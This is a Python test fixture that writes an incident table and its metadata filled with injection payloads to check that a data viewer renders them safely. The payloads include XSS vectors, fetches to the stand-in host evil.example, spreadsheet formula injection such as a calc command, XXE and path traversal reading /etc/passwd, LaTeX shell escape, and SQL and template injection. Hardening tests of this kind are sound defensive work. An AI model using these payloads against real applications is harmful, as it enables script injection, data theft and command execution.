"""Text that would like to be more than text, in every column that takes text: 200 payloads of a stranger's table.

Each that would run sets `window.ran`; each that would fetch asks the host `evil.example`.
"""

import json
from itertools import cycle
from pathlib import Path

from atlas.drawing.view import View
from atlas.incidents.filters import Filters
from atlas.incidents.load import read_incidents
from atlas.statistics.row_facts import RowFacts
from tests.tables.small import Row, at, days, write

EVIL = "http://evil.example"

_SCRIPTS = ("window.ran=1", "top.ran=1", f"fetch('{EVIL}/f')")
_MARKUP = (
    "<script>{js}</script>",
    "</script><script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<body onload={js}>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<a href=javascript:{js}>a</a>",
    "<math><mtext><img src=x onerror={js}></math>",
    "<style>@import '{url}/i'</style>",
    "<video src=x onerror={js}>",
    "'><img src=x onerror={js}>",
    '"><img src=x onerror={js}>',
    "--><img src=x onerror={js}>",
    "]]><img src=x onerror={js}>",
    "</title><img src=x onerror={js}>",
    "</textarea><img src=x onerror={js}>",
    "</style><img src=x onerror={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "<template><img src=x onerror={js}></template>",
    "<xml onreadystatechange={js}>",
    "<object data=javascript:{js}>",
    "<embed src=javascript:{js}>",
    "<form action=javascript:{js}><button>b</button></form>",
    "<marquee onstart={js}>",
    "<isindex action=javascript:{js} type=image>",
    "<base href=javascript:{js}//>",
)
_FETCHES = (
    "<img src={url}/p>",
    "<link rel=stylesheet href={url}/c>",
    "<iframe src={url}/i>",
    "<meta http-equiv=refresh content='0;{url}'>",
    "![x]({url}/p)",
    "[x]({url}/l)",
    "![x][r]",
    "<{url}/a>",
    "{url}/bare",
    "[x](javascript:window.ran=1)",
    "![x](data:text/html,<script>window.ran=1</script>)",
    "<image href={url}/p>",
    "<picture><source srcset={url}/p></picture>",
    "<div style=background:url({url}/b)>",
    "<table background={url}/b>",
    "<audio src={url}/a autoplay>",
    "url({url}/u)",
    "@import url({url}/u)",
    "<use href={url}/u#x>",
    "<feImage href={url}/u>",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "www.evil.example",
    "a@evil.example",
    "mailto:a@evil.example",
    "tel:+1",
    "file:///etc/passwd",
    "ftp://evil.example",
)
_OTHERS = (
    "**bold** _it_ ~~s~~ `c`",
    "# heading",
    "- list",
    "1. list",
    "> quote",
    "| a | b |",
    "***",
    "$\\frac{a}{b}$",
    "$$x$$",
    ":red[x]",
    ":material/home:",
    ":smile:",
    ":blue-background[x]",
    ":small[x]",
    ":streamlit:",
    "\\(x\\)",
    "\\[x\\]",
    "\\input{/etc/passwd}",
    "\\write18{id}",
    '#import "x.typ"',
    '#read("/etc/passwd")',
    '#eval("1")',
    '#image("x.png")',
    "$ typst $",
    "@label",
    "<label>",
    "#{ 1 }",
    "// comment",
    "/* comment */",
    "*/ comment",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example")',
    "'=1",
    "''=1",
    "{{7*7}}",
    "{% print(1) %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.ran=1')()}}",
    "%s%n%x",
    "{0}",
    "{name}",
    "%(name)s",
    "{",
    "}",
    "{{",
    "}}",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "%3Cscript%3E",
    "&#60;b&#62;",
    "&amp;lt;",
    '";window.ran=1;//',
    "';window.ran=1;//",
    "`;window.ran=1;//",
    '\\";window.ran=1;//',
    "</script",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "&e;",
    "_x0041_",
    "'; DROP TABLE incidents; --",
    '" OR "1"="1',
    "../../../etc/passwd",
    "C:\\Windows\\x",
    "CON",
    "null",
    "NaN",
    "None",
    "undefined",
    "true",
    "[]",
    "{}",
    "[object Object]",
    "__proto__",
    "constructor",
    "toString",
    "%f0%9f%98%80",
    "😀👨‍👩‍👧‍👦",
    "ﷺ",
    "العربية النص",
    "متن فارسی",
    "日本語",
    "Ｆｕｌｌ",
    "ﬁ ligature",
    "e\u0301\u0301\u0301\u0301",
    "Z\u0351\u036b\u0343algo",
    "\u00a0nbsp\u00a0",
    "a\u200db",
    "a\u00adb",
    "\u3000wide",
    "W" * 400,
    "ab " * 20,
    "<br>",
    "<wbr>",
    "<b>b</b>",
    "</p>",
    "</div></div></div>",
    "</svg>",
    "</g></svg>",
    "<text>",
    "<tspan>",
    "<br><sup>x</sup>",
    "<extra></extra>",
    "%{x}",
    "%{customdata[0]}",
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(form.format(js=script, url=EVIL) for form in _MARKUP for script in _SCRIPTS[:2]),
            *(form.format(url=EVIL) for form in _FETCHES),
            *_OTHERS,
        ]
    )
)

_TEXTS = (
    "place",
    "district",
    "coordinate_source",
    "origin_place",
    "attributed_by",
    "found_through",
    "summary",
    "operation_id",
)
_PROVINCES = ("AF-KAB", "AF-NAN", "AF-KDZ", "PK-KP", "IR-08")


def payload_rows() -> list[Row]:
    """Put every payload into the columns in turn, several times, so that each stands in each kind of cell."""
    given = cycle(PAYLOADS)
    rows = []
    for number, day in enumerate(days("2016-01-01", len(PAYLOADS), 14)):
        row = at(_PROVINCES[number % len(_PROVINCES)], day)
        row |= {column: " ".join(next(given).split()[:25]) for column in _TEXTS}
        row |= {"known_as": PAYLOADS[number].replace(";", ",").strip(), "origin_province_id": "AF-BDS"}
        source = dict.fromkeys(("publisher", "family", "title", "via"), PAYLOADS[-number] or "x")
        row |= {"sources": json.dumps([source | {"url": "https://example.org/1"}], ensure_ascii=False)}
        rows.append(row)
    return rows


ABOUT = {
    "dc:title": f"![x]({EVIL}/t) <img src={EVIL}/u onerror=window.ran=1> **title**",
    "dc:temporal": "2015-01-26/2026-02-22",
    "dc:license": f"[x]({EVIL}/l) <script>window.ran=1</script>",
    "dc:description": f"![x]({EVIL}/d)",
    "dc:source": [f"![x]({EVIL}/s)"],
}
"""What the metadata beside the table say."""


def write_hostile(folder: Path, **about: str) -> Path:
    """Write the table of payloads, with metadata that are no better."""
    path = write(payload_rows(), folder / "own.csv")
    path.with_name(f"{path.name}-metadata.json").write_text(json.dumps(ABOUT | about), encoding="utf-8")
    return path


def looked_at(path: Path) -> View:
    """Look at all rows of a table."""
    table = read_incidents(path)
    return View.of(table, RowFacts(table.measured), Filters().without("classes", "labels"))
